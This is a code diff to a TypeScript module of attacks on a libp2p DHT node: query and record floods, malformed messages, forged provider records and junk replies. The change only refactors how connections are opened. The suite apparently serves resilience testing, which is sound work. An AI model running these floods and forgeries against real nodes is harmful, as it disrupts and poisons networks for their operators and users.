@@ -4,7 +4,7 @@ import { CID } from 'multiformats/cid'
 import { randomBytes } from 'node:crypto'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { type Attack, numberOf, textOf, untilOver } from '../attack.ts'
-import { dial, isEnded, onBytes, openLiar, openStream, send } from '../liar.ts'
+import { isEnded, onBytes, openLiar, openStream, send, steadyConnection } from '../liar.ts'
 import { ADD_PROVIDER, dhtPeer, dhtRequest, emptyEntries, field, FIND_NODE, frame, Frames, FULL_MESSAGE_BYTES, GET_PROVIDERS, LAN_KAD, MIB, numberField, randomCid, randomPeer, varint } from '../wire.ts'
 
 /** Sends requests that cannot be. `kind`: which. */
@@ -12,11 +12,11 @@ export async function badDhtMessages (attack: Attack): Promise<void> {
   const bytes = BAD_REQUESTS[textOf(attack, 'kind')]?.()
   if (bytes === undefined) throw new Error('No such request')
   const liar = await openLiar()
-  let connection = await dial(liar, attack.victim, attack.signal)
+  const connection = steadyConnection(liar, attack)
+  await connection()
   attack.inPosition()
   await untilOver(attack, async () => {
-    if (connection.status !== 'open') connection = await dial(liar, attack.victim, attack.signal)
-    const stream = await openStream(connection, LAN_KAD, attack.signal)
+    const stream = await openStream(await connection(), LAN_KAD, attack.signal)
     await send(stream, bytes)
     attack.count('sent')
     if (await isEnded(stream, REFUSAL_MS)) attack.count('refused')
@@ -27,10 +27,12 @@ export async function badDhtMessages (attack: Attack): Promise<void> {
 /** Asks for the neighbours of random keys as fast as it goes, on `streams` streams. */
 export async function findNodeFlood (attack: Attack): Promise<void> {
   const liar = await openLiar()
+  const connection = steadyConnection(liar, attack)
+  await connection()
   attack.inPosition()
   await Promise.all(Array.from({ length: numberOf(attack, 'streams') }, async () => {
     await untilOver(attack, async () => {
-      const stream = await openStream(await dial(liar, attack.victim, attack.signal), LAN_KAD, attack.signal)
+      const stream = await openStream(await connection(), LAN_KAD, attack.signal)
       onBytes(stream, (bytes) => { attack.count('answeredBytes', bytes.byteLength) })
       while (!attack.signal.aborted && await send(stream, Buffer.concat(Array.from({ length: 16 }, () => dhtRequest(FIND_NODE, randomBytes(34)))))) attack.count('questions', 16)
     })
@@ -42,10 +44,12 @@ export async function addProviderFlood (attack: Attack): Promise<void> {
   const liar = await openLiar()
   const own = field(9, dhtPeer(liar.peerId.toMultihash().bytes, [multiaddr('/ip4/127.0.0.1/tcp/1').bytes]))
   const most = numberOf(attack, 'records')
+  const connection = steadyConnection(liar, attack)
+  await connection()
   attack.inPosition()
   let sentCount = 0
   await untilOver(attack, async () => {
-    const stream = await openStream(await dial(liar, attack.victim, attack.signal), LAN_KAD, attack.signal)
+    const stream = await openStream(await connection(), LAN_KAD, attack.signal)
     for (; sentCount < most && !attack.signal.aborted; sentCount += RECORDS_PER_WRITE) {
       const records = Array.from({ length: RECORDS_PER_WRITE }, () => dhtRequest(ADD_PROVIDER, randomCid().subarray(2), own))
       if (!await send(stream, Buffer.concat(records))) return
@@ -69,11 +73,11 @@ export async function forgedProviders (attack: Attack): Promise<void> {
     dhtPeer(randomPeer(), [multiaddr('/ip4/127.0.0.1/tcp/1').bytes]),
     dhtPeer(self, [bare(attack.victim), bare(attack.honest)])
   ]
+  const connections = [attack.victim, attack.honest].map((victim) => steadyConnection(liar, { victim, signal: attack.signal }))
   let isFirst = true
   await untilOver(attack, async () => {
-    for (const address of [attack.victim, attack.honest]) {
-      const connection = await dial(liar, address, attack.signal)
-      const stream = await openStream(connection, LAN_KAD, attack.signal)
+    for (const connection of connections) {
+      const stream = await openStream(await connection(), LAN_KAD, attack.signal)
       for (const provider of forged) await send(stream, dhtRequest(ADD_PROVIDER, key, field(9, provider)))
       attack.count('records', forged.length)
       await stream.close({ signal: attack.signal })
@@ -97,10 +101,11 @@ export async function junkReplies (attack: Attack): Promise<void> {
       }
     })
   })
-  let connection = await dial(liar, attack.victim, attack.signal)
+  const connection = steadyConnection(liar, attack)
+  await connection()
   attack.inPosition()
   await untilOver(attack, async () => {
-    if (connection.status !== 'open') connection = await dial(liar, attack.victim, attack.signal)
+    await connection()
     await sleep(100)
   })
 }
